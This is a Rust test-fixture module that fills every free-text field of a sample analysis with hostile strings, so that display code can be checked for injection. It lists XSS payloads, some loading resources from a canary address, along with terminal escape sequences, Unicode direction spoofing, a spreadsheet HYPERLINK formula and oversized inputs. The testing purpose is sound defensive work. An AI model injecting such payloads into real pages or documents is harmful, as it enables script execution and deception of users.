//! Analyses whose every free text is an attack on whoever displays it.

use bartizan_model::analysis::Analysis;
use serde_json::Value;

use crate::sample;

/// Keys whose values are words of ours, times or hashes; all other strings are hostile.
const OURS: &[&str] = &[
    "severity",
    "confidence",
    "direction",
    "side",
    "kind",
    "fact",
    "by",
    "way",
    "grade",
    "protocol",
    "access",
    "inventory_state",
    "state",
    "stage",
    "stages",
    "hash",
    "first_seen",
    "last_seen",
    "time",
    "last_time",
    "started",
    "ended",
];

/// Texts that try to run, load, restyle, break out or deceive. `{canary}` is an address that must
/// never be asked for.
pub(crate) fn payloads(canary: &str) -> Vec<String> {
    [
        r#"<script>document.title='pwned'</script>"#,
        r#""><script src="{canary}/s.js"></script>"#,
        r#"'><img src={canary}/i.png onerror=document.title='pwned'>"#,
        r#"<svg/onload=document.title='pwned'><use href="{canary}/u.svg#x">"#,
        r#"</style><style>@import "{canary}/a.css";*{background:url({canary}/b.png)}</style>"#,
        r#"</title><meta http-equiv=refresh content="0;url={canary}/r"><base href={canary}>"#,
        r#"--><iframe src="{canary}/f" srcdoc="<script>top.document.title='pwned'</script>">"#,
        r#"]]><![CDATA[<details open ontoggle=document.title='pwned'>"#,
        r#"javascript:document.title='pwned'"#,
        r#"" onmouseover="document.title='pwned'" style="background:url({canary}/c)" x=""#,
        r#"' onfocus='document.title=1' autofocus='"#,
        r#"expression(alert(1));background:url(javascript:document.title='pwned')"#,
        r#"https://example.com/"><link rel=stylesheet href={canary}/l.css>"#,
        "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mred\u{1b}[0m\u{9b}31m",
        "\u{202e}gnp.exe\u{2066}abc\u{200b}\u{200f}\u{feff}",
        "=HYPERLINK(\"{canary}\",\"x\")",
        "line one\r\nline two\u{2028}three\u{0}four",
        "&lt;script&gt;&#60;script&#62;&amp;quot;",
        "<template><noscript><p title=\"</noscript><img src=x onerror=document.title='pwned'>\">",
        "<math><mi xlink:href=\"data:x,<script>document.title=1</script>\">",
    ]
    .iter()
    .map(|payload| payload.replace("{canary}", canary))
    .chain([format!("<b>{}", "A".repeat(20_000)), "e\u{301}\u{301}\u{301}\u{301}".repeat(400)])
    .collect()
}

/// The sample with every free text replaced by what `change` makes of it and its number. Equal
/// texts stay equal, so that references hold.
pub(crate) fn stuffed(change: &dyn Fn(usize, &str) -> String) -> Analysis {
    let mut tree = serde_json::to_value(sample::analysis()).expect("the sample serialises");
    let mut known: Vec<String> = Vec::new();
    walk(&mut tree, None, &mut |text| {
        let index = known.iter().position(|k| k == text).unwrap_or_else(|| {
            known.push(text.clone());
            known.len() - 1
        });
        *text = change(index, text);
    });
    serde_json::from_value(tree).expect("only free texts were changed")
}

fn walk(value: &mut Value, key: Option<&str>, visit: &mut dyn FnMut(&mut String)) {
    match value {
        // `type` is ours in `auth`, free in parameters.
        Value::Object(map) => {
            let ours_type = map.contains_key("coverage");
            for (key, value) in map.iter_mut() {
                if !(key == "type" && ours_type) {
                    walk(value, Some(key), visit);
                }
            }
        }
        Value::Array(list) => list.iter_mut().for_each(|value| walk(value, key, visit)),
        Value::String(text) if !key.is_some_and(|key| OURS.contains(&key)) => visit(text),
        _ => {}
    }
}

/// The hostile analysis: every free text is its number and one of `payloads`.
pub(crate) fn analysis(payloads: &[String]) -> Analysis {
    stuffed(&|index, _| format!("{}{index}", payloads[index % payloads.len()]))
}

#[test]
fn stuffing_reaches_every_free_text() {
    let json = serde_json::to_string(&analysis(&["<x>".to_owned()])).expect("serialises");
    assert!(!json.contains("example.com") && !json.contains("orders"));
    assert!(json.matches("<x>").count() > 1_000);
}
